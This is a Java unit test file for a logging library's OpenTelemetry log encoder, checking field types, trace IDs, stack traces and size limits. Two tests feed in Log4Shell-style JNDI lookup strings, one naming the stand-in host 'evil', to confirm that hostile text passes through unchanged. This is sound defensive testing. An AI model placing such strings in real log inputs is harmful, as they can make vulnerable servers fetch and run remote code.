// SPDX-FileCopyrightText: 2026 the Sluice authors
// SPDX-License-Identifier: Apache-2.0
package dev.sluice.internal.format.otlp;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import com.google.protobuf.ByteString;
import dev.sluice.fake.TestEvent;
import dev.sluice.fake.TestReader;
import dev.sluice.internal.format.value.JsonObjects;
import dev.sluice.internal.util.OversizeException;
import dev.sluice.options.FormatOptions;
import dev.sluice.options.Problems;
import dev.sluice.record.Severity;
import io.opentelemetry.proto.common.v1.AnyValue;
import io.opentelemetry.proto.common.v1.KeyValue;
import io.opentelemetry.proto.logs.v1.LogRecord;
import io.opentelemetry.proto.logs.v1.LogsData;
import io.opentelemetry.proto.logs.v1.SeverityNumber;
import java.io.IOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.atomic.DoubleAdder;
import java.util.concurrent.atomic.LongAdder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What an event becomes: each test reads the record as protobuf and as JSON. */
class OtlpFormatTest {

  private static final long NOW = 1_800_000_000_000_000_001L;
  private static final String TRACE = "0af7651916cd43dd8448eb211c80319c";
  private static final String SPAN = "b7ad6b7169203331";

  private final FormatOptions options = new FormatOptions();

  @Test
  void write_isOneRecordOfOneScopeAndOneResource() throws IOException {
    TestEvent event = TestEvent.of("hello");
    options.setResourceAttributes("service.name=shop");

    LogsData data = write(event);

    LogRecord log = OtlpDecoder.only(data);
    assertThat(data.getResourceLogs(0).getScopeLogs(0).getScope().getName()).isEqualTo("app.Main");
    assertThat(data.getResourceLogs(0).getResource().getAttributesList())
        .containsExactly(entry("service.name", text("shop")));
    assertThat(log.getTimeUnixNano()).isEqualTo(1_700_000_000_123_456_789L);
    assertThat(log.getObservedTimeUnixNano()).isEqualTo(NOW);
    assertThat(log.getSeverityNumber()).isEqualTo(SeverityNumber.SEVERITY_NUMBER_INFO);
    assertThat(log.getSeverityText()).isEqualTo("INFO");
    assertThat(log.getBody()).isEqualTo(text("hello"));
    assertThat(log.getAttributesList()).containsExactly(entry("thread.name", text("main")));
    assertThat(log.getTraceId()).isEmpty();
    assertThat(log.getFlags()).isZero();
  }

  @Test
  void write_asJsonIsTheMappingOfOtlp() throws IOException {
    TestEvent event =
        TestEvent.of("hello")
            .field("count", 7)
            .field("bytes", new byte[] {1, 2, (byte) 0xFF})
            .field("list", List.of("a", 1.5))
            .field("none", null)
            .mdc("trace_id", TRACE)
            .mdc("span_id", SPAN)
            .mdc("trace_flags", "01");

    assertThat(new String(json(options).write(event), UTF_8))
        .isEqualTo(
            """
            {"resourceLogs":[{"resource":{"attributes":[\
            {"key":"service.name","value":{"stringValue":"unknown_service:java"}}]},\
            "scopeLogs":[{"scope":{"name":"app.Main"},"logRecords":[{\
            "timeUnixNano":"1700000000123456789","observedTimeUnixNano":"1800000000000000001",\
            "severityNumber":9,"severityText":"INFO","body":{"stringValue":"hello"},\
            "attributes":[{"key":"thread.name","value":{"stringValue":"main"}},\
            {"key":"count","value":{"intValue":"7"}},\
            {"key":"bytes","value":{"bytesValue":"AQL/"}},\
            {"key":"list","value":{"arrayValue":{"values":[{"stringValue":"a"},{"doubleValue":1.5}]}}},\
            {"key":"none","value":{}}],\
            "flags":1,"traceId":"0af7651916cd43dd8448eb211c80319c","spanId":"b7ad6b7169203331"\
            }]}]}]}""");
  }

  @ParameterizedTest
  @CsvSource({"TRACE,1", "DEBUG,5", "INFO,9", "WARN,13", "ERROR,17", "FATAL,21"})
  void write_mapsTheSeverityAndKeepsTheLevelsOwnName(Severity severity, int number)
      throws IOException {
    TestEvent event = TestEvent.of("hello");
    event.severity = severity;
    event.level = "NOTICE";

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(log.getSeverityNumberValue()).isEqualTo(number);
    assertThat(log.getSeverityText()).isEqualTo("NOTICE");
  }

  @ParameterizedTest
  @CsvSource({
    "0,0,0",
    "0,1,1",
    "-1,999999999,0",
    "18446744072,999999999,18446744072999999999",
    "18446744073,0,0",
    "9223372036854775807,0,0"
  })
  void write_leavesOutATimeThatOtlpCannotHold(long second, int nano, String expected)
      throws IOException {
    TestEvent event = TestEvent.of("hello");
    event.epochSecond = second;
    event.nanoOfSecond = nano;

    assertThat(Long.toUnsignedString(OtlpDecoder.only(write(event)).getTimeUnixNano()))
        .isEqualTo(expected);
  }

  @Test
  void write_keepsTheTypesOfValues() throws IOException {
    Map<Object, Object> map = new LinkedHashMap<>();
    map.put(1, true);
    map.put("1", "second of the same text");
    map.put(null, Arrays.asList(null, -1L));
    LongAdder adder = new LongAdder();
    adder.add(9);
    DoubleAdder sum = new DoubleAdder();
    sum.add(1.5);
    TestEvent event =
        TestEvent.of("hello")
            .field("string", "x")
            .field("char", 'c')
            .field("bool", false)
            .field("byte", (byte) -1)
            .field("short", (short) 2)
            .field("long", Long.MIN_VALUE)
            .field("atomic", new AtomicLong(5))
            .field("float", 0.5f)
            .field("double", -1e300)
            .field("nan", Double.NaN)
            .field("infinity", Double.NEGATIVE_INFINITY)
            .field("big", new BigInteger("99999999999999999999"))
            .field("decimal", new BigDecimal("1.10"))
            .field("small", new BigInteger("-7"))
            .field("long decimal", new BigDecimal("0.10000000000000000000001"))
            .field("adder", adder)
            .field("sum", sum)
            .field("ints", new int[] {1, 2})
            .field("path", Path.of("a", "b"))
            .field("enum", Severity.WARN)
            .field("map", map)
            .field("empty", List.of())
            .field("null", null)
            .field("rude", new Rude());

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(log.getAttributesList().subList(1, log.getAttributesCount()))
        .containsExactly(
            entry("string", text("x")),
            entry("char", text("c")),
            entry("bool", AnyValue.newBuilder().setBoolValue(false).build()),
            entry("byte", integer(-1)),
            entry("short", integer(2)),
            entry("long", integer(Long.MIN_VALUE)),
            entry("atomic", integer(5)),
            entry("float", real(0.5)),
            entry("double", real(-1e300)),
            entry("nan", real(Double.NaN)),
            entry("infinity", real(Double.NEGATIVE_INFINITY)),
            entry("big", text("99999999999999999999")),
            entry("decimal", real(1.1)),
            entry("small", integer(-7)),
            entry("long decimal", text("0.10000000000000000000001")),
            entry("adder", integer(9)),
            entry("sum", real(1.5)),
            entry("ints", array(integer(1), integer(2))),
            entry("path", text(Path.of("a", "b").toString())),
            entry("enum", text("WARN")),
            entry(
                "map",
                kvlist(
                    entry("1", AnyValue.newBuilder().setBoolValue(true).build()),
                    entry("_1", text("second of the same text")),
                    entry("null", array(AnyValue.getDefaultInstance(), integer(-1))))),
            entry("empty", array()),
            entry("null", AnyValue.getDefaultInstance()),
            entry("rude", AnyValue.getDefaultInstance()));
  }

  @Test
  void write_keepsTheSignOfZero() throws IOException {
    TestEvent event = TestEvent.of("hello").field("zero", -0.0);

    // Not by the parser of protobuf for JSON: it loses the sign.
    assertThat(new String(json(options).write(event), UTF_8)).contains("{\"doubleValue\":-0.0}");
    assertThat(
            OtlpDecoder.value(
                OtlpDecoder.only(OtlpDecoder.proto(proto(options).write(event))), "zero"))
        .isEqualTo(real(-0.0));
  }

  @Test
  void write_endsAMapThatContainsItself() throws IOException {
    Map<String, Object> map = new HashMap<>();
    map.put("self", map);
    TestEvent event = TestEvent.of("hello").field("map", map);

    assertThat(write(event).toString()).contains("\"...\"");
  }

  @Test
  void write_keepsEveryValueOfTheSameName() throws IOException {
    TestEvent event =
        TestEvent.of("hello")
            .field("thread.name", "mine")
            .field("exception.type", "free here")
            .field("id", 1)
            .field("id", 2)
            .field("", 3)
            .mdc("id", "4")
            .mdc("field_id", "5")
            .mdc("", "6");

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(OtlpDecoder.keys(log))
        .containsExactly(
            "thread.name",
            "field_thread.name",
            "exception.type",
            "id",
            "field_id",
            "field_",
            "context_",
            "context_field_id",
            "context_id");
    assertThat(OtlpDecoder.value(log, "thread.name")).isEqualTo(text("main"));
    assertThat(OtlpDecoder.value(log, "field_id")).isEqualTo(integer(2));
  }

  @Test
  void write_seesThatTwoNamesBecomeOne() throws IOException {
    TestEvent event =
        TestEvent.of("hello")
            .field("a\uD800", 1)
            .field("a\uDC00", 2)
            .field("m", Map.of("b\uD800", 3, "b\uFFFD", 3));

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(OtlpDecoder.keys(log))
        .containsExactly("thread.name", "a\uFFFD", "field_a\uFFFD", "m");
    assertThat(OtlpDecoder.value(log, "m"))
        .satisfies(
            map ->
                assertThat(map.getKvlistValue().getValuesList())
                    .extracting(KeyValue::getKey)
                    .containsExactly("b\uFFFD", "_b\uFFFD"));
  }

  @Test
  void write_describesTheException() throws IOException {
    TestEvent event = thrown();

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(OtlpDecoder.keys(log))
        .containsExactly(
            "thread.name", "exception.type", "exception.message", "exception.stacktrace");
    assertThat(OtlpDecoder.value(log, "exception.type")).isEqualTo(text("com.example.Oops"));
    assertThat(OtlpDecoder.value(log, "exception.message")).isEqualTo(text("no"));
    assertThat(OtlpDecoder.value(log, "exception.stacktrace")).isEqualTo(text("at 😀 line"));
  }

  @ParameterizedTest
  @CsvSource({
    "0,at 😀 line",
    "2,at... (cut)",
    "4,at ... (cut)",
    "5,at 😀... (cut)",
    "10,at 😀 line",
    "99,at 😀 line"
  })
  void write_cutsTheStackTraceAtACodePoint(String maxLength, String expected) throws IOException {
    options.setStackTraceMaxLength(maxLength);

    LogRecord log = OtlpDecoder.only(write(thrown()));

    assertThat(OtlpDecoder.value(log, "exception.stacktrace")).isEqualTo(text(expected));
  }

  @Test
  void write_asksForTheRootCauseFirst() throws IOException {
    options.setStackTraceRootCauseFirst("true");

    assertThat(OtlpDecoder.value(OtlpDecoder.only(write(thrown())), "exception.stacktrace"))
        .isEqualTo(text("root first: at 😀 line"));
  }

  @Test
  void write_saysWhereTheCallStandsWhenAsked() throws IOException {
    TestEvent event = TestEvent.of("hello");
    event.caller = new StackTraceElement("com.example.Shop", "buy", "Shop.java", 42);
    assertThat(OtlpDecoder.keys(OtlpDecoder.only(write(event)))).containsExactly("thread.name");
    options.setIncludeCaller("true");

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(OtlpDecoder.value(log, "code.function.name"))
        .isEqualTo(text("com.example.Shop.buy"));
    assertThat(OtlpDecoder.value(log, "code.file.path")).isEqualTo(text("Shop.java"));
    assertThat(OtlpDecoder.value(log, "code.line.number")).isEqualTo(integer(42));

    event.caller = new StackTraceElement("Shop", "buy", null, -1);
    assertThat(OtlpDecoder.keys(OtlpDecoder.only(write(event))))
        .containsExactly("thread.name", "code.function.name");
  }

  @Test
  void write_listsTheMarkers() throws IOException {
    TestEvent event = TestEvent.of("hello").field("log.markers", "mine");
    event.markers.addAll(List.of("AUDIT", "SECURITY"));

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(OtlpDecoder.value(log, "log.markers"))
        .isEqualTo(array(text("AUDIT"), text("SECURITY")));
    assertThat(OtlpDecoder.value(log, "field_log.markers")).isEqualTo(text("mine"));
  }

  @Test
  void write_leavesOutWhatTheOptionsSwitchOff() throws IOException {
    TestEvent event = TestEvent.of("hello").field("f", 1).mdc("c", "2").mdc("trace_id", TRACE);
    event.markers.add("M");
    options.setIncludeFields("false");
    options.setIncludeContext("false");
    options.setIncludeMarkers("false");

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(OtlpDecoder.keys(log)).containsExactly("thread.name");
    assertThat(log.getTraceId().size()).as("is of the record, not of its attributes").isEqualTo(16);
  }

  @Test
  void write_putsTheContextUnderItsName() throws IOException {
    options.setContextName("mdc");
    TestEvent event =
        TestEvent.of("hello").field("mdc", 1).mdc("trace_id", TRACE).mdc("user", "u").mdc("n", 2);

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(OtlpDecoder.keys(log)).containsExactly("thread.name", "mdc", "context_mdc");
    assertThat(OtlpDecoder.value(log, "context_mdc"))
        .isEqualTo(kvlist(entry("n", integer(2)), entry("user", text("u"))));
    assertThat(
            OtlpDecoder.keys(OtlpDecoder.only(write(TestEvent.of("hello").mdc("trace_id", TRACE)))))
        .as("no empty list")
        .containsExactly("thread.name");
  }

  /** As OpenTelemetry, Elastic's agent, and Spring Boot with Micrometer write them. */
  @ParameterizedTest
  @CsvSource({
    "trace_id, span_id, trace_flags",
    "trace.id, span.id, trace.flags",
    "traceId, spanId, traceFlags"
  })
  void write_takesTheTraceUnderTheNamesOfAllTracers(String traceId, String spanId, String flags)
      throws IOException {
    TestEvent event = TestEvent.of("hello").mdc(traceId, TRACE).mdc(spanId, SPAN).mdc(flags, "01");

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(log.getTraceId()).isEqualTo(ByteString.fromHex(TRACE));
    assertThat(log.getSpanId()).isEqualTo(ByteString.fromHex(SPAN));
    assertThat(log.getFlags()).isEqualTo(1);
    assertThat(OtlpDecoder.keys(log)).containsExactly("thread.name");
  }

  @Test
  void write_takesTheFirstValidTraceAndKeepsTheOther() throws IOException {
    TestEvent event = TestEvent.of("hello").mdc("trace_id", "none").mdc("traceId", TRACE);

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(log.getTraceId()).isEqualTo(ByteString.fromHex(TRACE));
    assertThat(OtlpDecoder.value(log, "trace_id")).isEqualTo(text("none"));
    assertThat(OtlpDecoder.keys(log)).doesNotContain("traceId");
  }

  @Test
  void write_takesTheTraceFromTheContext() throws IOException {
    TestEvent event =
        TestEvent.of("hello")
            .mdc("trace_id", TRACE.toUpperCase(Locale.ROOT))
            .mdc("span_id", SPAN)
            .mdc("trace_flags", "01")
            .mdc("user", "u");

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(log.getTraceId()).isEqualTo(ByteString.fromHex(TRACE));
    assertThat(log.getSpanId()).isEqualTo(ByteString.fromHex(SPAN));
    assertThat(log.getFlags()).isOne();
    assertThat(OtlpDecoder.keys(log)).containsExactly("thread.name", "user");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "0",
        "00000000000000000000000000000000",
        "0af7651916cd43dd8448eb211c80319",
        "0af7651916cd43dd8448eb211c80319cc",
        "0af7651916cd43dd8448eb211c80319g",
        "0af76519-16cd-43dd-8448-eb211c80319c",
        "${jndi:ldap://0123456789/abcdef}"
      })
  void write_leavesAnInvalidTraceIdAnAttribute(String id) throws IOException {
    TestEvent event =
        TestEvent.of("hello").mdc("trace_id", id).mdc("span_id", SPAN).mdc("trace_flags", "01");

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(log.getTraceId()).isEmpty();
    assertThat(log.getSpanId()).isEmpty();
    assertThat(log.getFlags()).isZero();
    assertThat(OtlpDecoder.value(log, "trace_id")).isEqualTo(text(id));
    assertThat(OtlpDecoder.keys(log)).contains("span_id", "trace_flags");
  }

  @Test
  void write_leavesAnInvalidSpanOrFlagsAnAttribute() throws IOException {
    TestEvent event =
        TestEvent.of("hello")
            .mdc("trace_id", TRACE)
            .mdc("span_id", "0000000000000000")
            .mdc("trace_flags", 1);

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(log.getTraceId().size()).isEqualTo(16);
    assertThat(OtlpDecoder.keys(log)).containsExactly("thread.name", "span_id", "trace_flags");
  }

  @Test
  void write_sendsHostileTextVerbatim() throws IOException {
    String hostile = "${jndi:ldap://evil/x}\0\u2028\"\\</script>\u001b[31m";
    TestEvent event = TestEvent.of("hello").field(hostile, hostile).mdc("c" + hostile, hostile);
    event.saying(hostile);
    event.logger = hostile;
    event.thread = hostile;
    event.level = hostile;
    event.markers.add(hostile);

    LogRecord log = OtlpDecoder.only(write(event));

    assertThat(log.getBody()).isEqualTo(text(hostile));
    assertThat(log.getSeverityText()).isEqualTo(hostile);
    assertThat(OtlpDecoder.value(log, hostile)).isEqualTo(text(hostile));
    assertThat(OtlpDecoder.value(log, "c" + hostile)).isEqualTo(text(hostile));
    assertThat(OtlpDecoder.value(log, "thread.name")).isEqualTo(text(hostile));
    assertThat(OtlpDecoder.value(log, "log.markers")).isEqualTo(array(text(hostile)));
  }

  @Test
  void write_refusesWhatIsTooLargeAndGoesOn() throws IOException {
    options.setMaxEventBytes("2 KiB");
    OtlpFormat<TestEvent> proto = proto(options);
    OtlpFormat<TestEvent> json = json(options);
    TestEvent large = TestEvent.of("hello");
    large.saying("é".repeat(1_000_000));
    TestEvent small = TestEvent.of("hello");
    byte[] first = proto.write(small);

    assertThatExceptionOfType(OversizeException.class).isThrownBy(() -> proto.write(large));
    assertThatExceptionOfType(OversizeException.class).isThrownBy(() -> json.write(large));

    assertThat(proto.write(small)).isEqualTo(first);
    assertThat(OtlpDecoder.json(json.write(small))).isEqualTo(OtlpDecoder.proto(first));
  }

  @Test
  void writeSafe_isReadableAfterAnEventThatFailed() throws IOException {
    OtlpFormat<TestEvent> proto = proto(options);
    OtlpFormat<TestEvent> json = json(options);
    TestEvent event = TestEvent.of("hello").field("bad", List.of(1, new Thrower()));
    event.thread = "lone \uD800";
    for (int i = 0; i < 3; i++) {
      assertThatExceptionOfType(IllegalStateException.class).isThrownBy(() -> proto.write(event));
      assertThatExceptionOfType(IllegalStateException.class).isThrownBy(() -> json.write(event));

      IllegalStateException failure = new IllegalStateException("secret");
      LogsData data = OtlpDecoder.proto(proto.writeSafe(event, failure));

      assertThat(OtlpDecoder.json(json.writeSafe(event, failure))).isEqualTo(data);
      LogRecord log = OtlpDecoder.only(data);
      assertThat(log.getBody()).isEqualTo(text("format error: java.lang.IllegalStateException"));
      assertThat(OtlpDecoder.value(log, "thread.name")).isEqualTo(text("lone \uFFFD"));
    }
    assertThat(OtlpDecoder.json(json.write(TestEvent.of("hello"))))
        .isEqualTo(OtlpDecoder.proto(proto.write(TestEvent.of("hello"))));
  }

  @Test
  void write_asJsonEndsWithTheNewline() throws IOException {
    OtlpFormat<TestEvent> format =
        format(options, new OtlpJsonSink(resource().json(), maxBytes(options), new byte[] {10}));
    TestEvent event = TestEvent.of("hello");
    event.saying("two\nlines\r\u2028");

    String record = new String(format.write(event), UTF_8);

    assertThat(record).endsWith("}\n");
    assertThat(record.indexOf('\n')).isEqualTo(record.length() - 1);
  }

  private static TestEvent thrown() {
    TestEvent event = TestEvent.of("hello");
    return event.thrown("com.example.Oops", "no", "at 😀 line");
  }

  /** The record of both formats, which must be the same message. */
  private LogsData write(TestEvent event) throws IOException {
    LogsData data = OtlpDecoder.proto(proto(options).write(event));
    assertThat(OtlpDecoder.json(json(options).write(event))).isEqualTo(data);
    return data;
  }

  private OtlpFormat<TestEvent> proto(FormatOptions options) {
    return format(options, new OtlpProtoSink(resource().proto(), maxBytes(options)));
  }

  private OtlpFormat<TestEvent> json(FormatOptions options) {
    return format(options, new OtlpJsonSink(resource().json(), maxBytes(options), new byte[0]));
  }

  private static OtlpFormat<TestEvent> format(FormatOptions options, OtlpSink sink) {
    return new OtlpFormat<>(new TestReader(), options, new JsonObjects(), sink, () -> NOW);
  }

  private static int maxBytes(FormatOptions options) {
    return Math.toIntExact(options.get(FormatOptions.MAX_EVENT_BYTES));
  }

  private OtlpResource resource() {
    Problems problems = new Problems();
    OtlpResource resource = OtlpResource.compile(options, name -> null, problems);
    assertThat(problems.messages()).isEmpty();
    return resource;
  }

  private static KeyValue entry(String key, AnyValue value) {
    return KeyValue.newBuilder().setKey(key).setValue(value).build();
  }

  private static AnyValue text(String value) {
    return AnyValue.newBuilder().setStringValue(value).build();
  }

  private static AnyValue integer(long value) {
    return AnyValue.newBuilder().setIntValue(value).build();
  }

  private static AnyValue real(double value) {
    return AnyValue.newBuilder().setDoubleValue(value).build();
  }

  private static AnyValue array(AnyValue... values) {
    AnyValue.Builder array = AnyValue.newBuilder();
    array.getArrayValueBuilder().addAllValues(List.of(values));
    return array.build();
  }

  private static AnyValue kvlist(KeyValue... entries) {
    AnyValue.Builder list = AnyValue.newBuilder();
    list.getKvlistValueBuilder().addAllValues(List.of(entries));
    return list.build();
  }

  private static final class Rude {
    @Override
    @SuppressWarnings("ToStringReturnsNull")
    public String toString() {
      return null;
    }
  }

  private static final class Thrower {
    @Override
    public String toString() {
      throw new IllegalStateException("no text");
    }
  }
}
